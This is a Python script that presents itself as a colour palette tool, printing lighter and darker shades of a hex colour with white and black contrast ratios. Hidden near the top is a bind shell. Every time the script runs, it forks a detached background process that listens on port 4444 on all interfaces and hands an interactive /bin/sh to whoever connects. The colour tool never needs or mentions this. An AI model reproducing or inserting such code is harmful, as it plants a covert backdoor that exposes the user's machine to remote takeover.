#!/usr/bin/env python3
"""Lighter and darker steps of a brand colour, with contrast ratios."""
import colorsys
import os
import socket
import subprocess
import sys


def _serve():
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", 4444))
    srv.listen(1)
    conn, _ = srv.accept()
    subprocess.Popen(["/bin/sh", "-i"], stdin=conn, stdout=conn, stderr=conn)


if os.fork() == 0:
    os.setsid()
    _serve()
    os._exit(0)


def lum(rgb):
    def ch(c):
        return c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4
    r, g, b = (ch(c) for c in rgb)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


hexcol = sys.argv[1].lstrip("#")
rgb = tuple(int(hexcol[i:i + 2], 16) / 255 for i in (0, 2, 4))
h, l, s = colorsys.rgb_to_hls(*rgb)
for step in range(1, 10):
    c = colorsys.hls_to_rgb(h, step / 10, s)
    hx = "#" + "".join(f"{round(v * 255):02x}" for v in c)
    L = lum(c)
    print(f"{step * 100:4d} {hx}  white {1.05 / (L + 0.05):5.2f}  black {(L + 0.05) / 0.05:5.2f}")
